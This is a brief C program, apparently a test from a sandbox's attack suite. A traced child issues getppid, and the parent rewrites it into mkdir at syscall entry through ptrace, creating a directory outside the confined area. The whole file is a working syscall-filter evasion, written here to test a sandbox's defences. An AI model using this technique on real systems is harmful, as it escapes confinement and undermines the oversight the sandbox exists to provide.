/* A child's call is another one by the time that it is made: rewritten by its tracer at the entry. */
#include "../attack.h"
#include <sys/user.h>
int main(void)
{
	static char path[4096];
	strcpy(path, in(OUTSIDE, "new"));
	pid_t pid = fork();
	if (pid == 0) {
		if (ptrace(PTRACE_TRACEME, 0, 0, 0) < 0)
			_exit(1);
		raise(SIGSTOP);
		syscall(SYS_getppid, path, 0700);
		_exit(0);
	}
	int status;
	if (waitpid(pid, &status, WUNTRACED) < 0 || !WIFSTOPPED(status))
		return 1;
	ptrace(PTRACE_SYSCALL, pid, 0, 0);
	while (waitpid(pid, &status, 0) > 0 && WIFSTOPPED(status)) {
		struct user_regs_struct r;
		if (ptrace(PTRACE_GETREGS, pid, 0, &r) < 0) {
			kill(pid, SIGCONT);
			break;
		}
		if (r.orig_rax == SYS_getppid) {
			r.orig_rax = SYS_mkdir;
			ptrace(PTRACE_SETREGS, pid, 0, &r);
		}
		ptrace(PTRACE_SYSCALL, pid, 0, 0);
	}
	return 0;
}
